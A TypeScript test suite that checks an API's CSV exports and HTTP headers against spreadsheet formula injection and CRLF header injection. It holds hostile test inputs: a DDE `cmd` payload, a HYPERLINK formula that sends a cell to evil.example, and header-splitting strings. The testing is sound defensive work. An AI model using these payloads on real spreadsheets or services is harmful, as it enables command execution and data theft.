/**
 * Mistake 8: a text that becomes a command in what it is handed on to: a formula in a spreadsheet, a line of a header, a
 * call for everybody in a chat (OWASP ASVS 1.2.10, 1.3.11).
 *
 * Mails and chats are not there yet: their senders belong into `CARRIERS` and a list of their own here.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { createHttpClient } from '../../collector/scrape.ts'
import { createCsvSink } from '../../store/metrics/export/csv.ts'
import { withNeeded, world } from '../api/world.ts'
import { fullDeps } from './full-world.ts'
import { expectFound } from './planted.ts'

let cleanups: (() => unknown)[]
beforeEach(() => {
  cleanups = []
})
afterEach(async () => {
  for (const cleanup of cleanups.reverse()) await cleanup()
})

const BEGINNINGS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
const HOSTILE = [
  ...BEGINNINGS.map((sign) => `${sign}cmd|' /C calc'!A0`),
  ...['\t', '\r', '\n', ' ', '\u00a0', '\t \t'].map((space) => `${space}=1+1`),
  // cells of their own where semicolons, tabs or lines separate; with quotes, and without
  'x;=1+1;y',
  'x; =1+1',
  'x\t@SUM(1)',
  'x\n=1+1',
  'x\r\n-2+3',
  '";=HYPERLINK("http://evil.example/?"&A1;"x");"',
  "'=1+1",
]

/** What a spreadsheet takes for cells: as the file means them, and where semicolons or tabs separate in its country. */
function cellsOf(csv: string): readonly string[] {
  const meant = parse(csv) as string[][]
  const elsewhere = csv.split(/[;\t\r\n]/).map((cell) => cell.replace(/^"+/, ''))
  return [...meant.flat(), ...elsewhere]
}
const NUMBER = /^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/

/** @param tables of data in which every text is the given one */
async function noCellIsAFormula(tables: (word: string) => Promise<readonly string[]>): Promise<void> {
  for (const word of HOSTILE) {
    const found = await tables(word)
    expect(found.length).toBeGreaterThan(0)
    for (const table of found) {
      expect(table, 'it carries the text').toContain(word.trim().slice(-2))
      for (const cell of cellsOf(table)) {
        const begins = cell.replace(/^[ \u00a0]+/, '')[0] ?? ''
        const isFormula = [...BEGINNINGS, '\t', '\r', '\n'].includes(begins) && !NUMBER.test(cell)
        expect(isFormula, `${JSON.stringify(cell)} of ${JSON.stringify(word)}`).toBe(false)
      }
    }
  }
}

/** Every route that has a table, with each of the tables that it has and grouped by all that it can be. */
const TABLES = [
  ...['/api/v1/usage?by=account', '/api/v1/sessions?by=hub', '/api/v1/bridge?by=organisation', '/api/v1/audit'],
  ...['/api/v1/capacity', '/api/v1/capacity?table=lots', '/api/v1/utilisation?by=type', '/api/v1/publications'],
  ...['/api/v1/publications?table=figures', '/api/v1/training', '/api/v1/training?table=figures&by=course'],
  ...['/api/v1/planning/saturation', '/api/v1/planning/cost', '/api/v1/planning/budget?coreHours=1'],
  ...[withNeeded('/api/v1/planning/what-if'), '/api/v1/planning/replay'],
  ...['/api/v1/alerts', '/api/v1/alerts?table=history'],
  withNeeded('/api/v1/series'),
  `${withNeeded('/api/v1/forecasts')}&by=partition`,
]

async function tablesOfTheApi(word: string): Promise<readonly string[]> {
  const { get } = world({ deps: fullDeps(word) })
  return Promise.all(
    TABLES.map(async (path) => {
      const response = await get(path, { Accept: 'text/csv' })
      expect([path, response.status]).toEqual([path, 200])
      return response.text()
    }),
  )
}

async function tableOfAnExport(word: string): Promise<readonly string[]> {
  const folder = mkdtempSync(join(tmpdir(), 'atalaya-csv-'))
  cleanups.push(() => rmSync(folder, { recursive: true }))
  const sink = createCsvSink(join(folder, 'x.csv'), { texts: ['node', 'origin'], numbers: ['value'] } as never)
  sink.add(1_600_000_000_000, [word, undefined] as never, [-1.5])
  sink.finish()
  return [readFileSync(join(folder, 'x.csv'), 'utf8')]
}

/** Who sends texts on as lines of a header. @returns the lines that arrived */
type Carrier = (text: string) => Promise<readonly string[]>

const BREAKS = [
  '\r\nx-evil: 1',
  '\nx-evil: 1',
  '\rx-evil: 1',
  '\r\n\r\nGET /evil HTTP/1.1',
  '\u0000',
  '\u2028x-evil: 1',
]

async function noLineBreaksOut(carry: Carrier): Promise<void> {
  for (const text of BREAKS) {
    // refused is as good as carried safely
    const lines = await carry(`value${text}`).catch(() => [])
    expect(lines.filter((line) => /evil/i.test(line) && !line.startsWith('x-text:'))).toEqual([])
    expect(lines.join('')).not.toMatch(/\p{Cc}/u)
  }
}

/** Requests as they arrive, line by line. */
async function requestLines(send: (url: string) => Promise<unknown>): Promise<readonly string[]> {
  const lines: string[] = []
  const server = createServer((request, response) => {
    lines.push(`${request.method} ${request.url}`)
    for (let at = 0; at < request.rawHeaders.length; at += 2)
      lines.push(`${request.rawHeaders[at]}: ${request.rawHeaders[at + 1]}`)
    response.end()
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  try {
    await send(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`)
  } finally {
    server.closeAllConnections()
    await new Promise((resolve) => server.close(resolve))
  }
  return lines
}

const limits = { timeoutSeconds: 5, bodyBytes: 1_000, compressionRatio: 100, labels: 64 }
const CARRIERS: Readonly<Record<string, Carrier>> = {
  'a request to a target': (text) =>
    requestLines(async (url) => {
      const client = createHttpClient({ limits, headers: { 'x-text': text } })
      cleanups.push(() => client.close())
      await client.get(url, { signal: new AbortController().signal })
    }),
  'an answer that repeats what it was asked': async (text) => {
    const { get } = world({ deps: fullDeps('x') })
    const asked = encodeURIComponent(text)
    const paths = [`/api/v1/usage?zone=${asked}&format=csv`, `/${asked}`, `/api/v1/login/hub?back=${asked}`]
    const answers = await Promise.all(paths.map((path) => get(path)))
    return answers.flatMap(({ headers }) => [...headers].map(([name, value]) => `${name}: ${value}`))
  },
}

describe('8. a text that is a command elsewhere', () => {
  it('is no formula in any table of the API', () => noCellIsAFormula(tablesOfTheApi))

  it('is no formula in an exported file', () => noCellIsAFormula(tableOfAnExport))

  it('is looked for in every table there is', () => {
    const { app } = world()
    const document = app.getOpenAPI31Document({ openapi: '3.1.0', info: { title: '', version: '' } })
    const withTable = Object.entries(document.paths ?? {}).filter(([, { get }]) =>
      JSON.stringify(get ?? {}).includes('text/csv'),
    )
    expect([...new Set(TABLES.map((path) => path.split('?')[0]))].sort()).toEqual(
      withTable.map(([path]) => path).sort(),
    )
  })

  it.each<[string, (word: string) => string]>([
    ['cells as they come', (word) => stringify([[word, 1]])],
    ['only the first sign looked at', (word) => stringify([['x', word]], { escape_formulas: true })],
    ['quotes, which a spreadsheet takes off', (word) => stringify([[word]], { quoted: true })],
  ])('is found where it is planted: %s', (_, table) =>
    expectFound(() => noCellIsAFormula(async (word) => [table(word)])),
  )

  it.each(Object.entries(CARRIERS))('is no line of a header in %s', (_, carry) => noLineBreaksOut(carry))

  it('is found in a header where it is planted', async () => {
    const carry: Carrier = async (text) => `x-text: ${text}`.split(/\r\n|\r|\n/)
    await expectFound(() => noLineBreaksOut(carry))
  })
})
